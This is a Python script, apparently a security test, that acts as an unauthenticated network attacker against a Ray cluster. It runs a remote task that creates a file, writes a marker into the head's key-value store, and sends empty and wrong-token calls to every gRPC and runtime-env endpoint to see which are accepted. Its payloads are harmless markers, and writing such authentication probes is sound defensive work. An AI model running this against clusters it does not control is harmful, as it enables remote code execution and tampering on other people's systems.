"""Somebody on the network who tries to get into a Ray cluster; run as a program.

    python rayattack.py init HOST:PORT FILE     runs a task there that makes FILE
    python rayattack.py kv HOST:PORT            reads and writes what the head keeps
    python rayattack.py calls HOST PORT ...     calls every method of every service at every port

It prints a JSON value of what it has achieved. Tokens are those of its environment.
"""

from __future__ import annotations

import importlib
import json
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import ray


def init(address: str, file: str) -> Any:
    ray.init(address=address, log_to_driver=False, logging_level="error")

    @ray.remote
    def touch() -> None:
        Path(file).touch()

    return ray.get(touch.remote(), timeout=20)


def kv(address: str) -> Any:
    from ray._raylet import GcsClient

    head = GcsClient(address=address)
    head.internal_kv_put(b"stranger", b"was here", True, namespace=None, timeout=5)
    return head.internal_kv_get(b"stranger", namespace=None, timeout=5).decode()


def calls(host: str, *ports: str) -> Any:
    """{port: {code: number of methods}}."""
    import grpc

    generated = Path(ray.__file__).parent / "core" / "generated"
    methods = ["/ray.rpc.ObjectManagerService/Push", "/ray.rpc.ObjectManagerService/Pull"]
    for file in sorted(generated.glob("*_pb2.py")):
        described = importlib.import_module(f"ray.core.generated.{file.stem}").DESCRIPTOR
        for service in described.services_by_name.values():
            methods += [f"/{service.full_name}/{method.name}" for method in service.methods]
    found: dict[str, dict[str, int]] = {}
    for port in ports:
        counts = found.setdefault(port, {})
        with grpc.insecure_channel(f"{host}:{port}") as channel:
            for method in methods:
                for token in ((), (("authorization", "Bearer wrong"),)):
                    try:
                        channel.unary_unary(method)(b"", metadata=token, timeout=10)
                        code = "OK"
                    except grpc.RpcError as refused:
                        code = refused.code().name
                    counts[code] = counts.get(code, 0) + 1
                if code == "UNAVAILABLE":  # it speaks HTTP
                    counts.clear()
                    break
        for path in ("get_or_create_runtime_env", "get_runtime_envs_info") if not counts else ():
            request = urllib.request.Request(f"http://{host}:{port}/{path}", data=b"")
            try:
                code = str(urllib.request.urlopen(request, timeout=10).status)
            except urllib.error.HTTPError as refused:
                code = str(refused.code)
                refused.close()
            counts[code] = counts.get(code, 0) + 1
    return found


if __name__ == "__main__":
    what, *rest = sys.argv[1:]
    try:
        print(json.dumps({"got": {"init": init, "kv": kv, "calls": calls}[what](*rest)}))
    except Exception as fault:
        print(json.dumps({"fault": type(fault).__name__}))
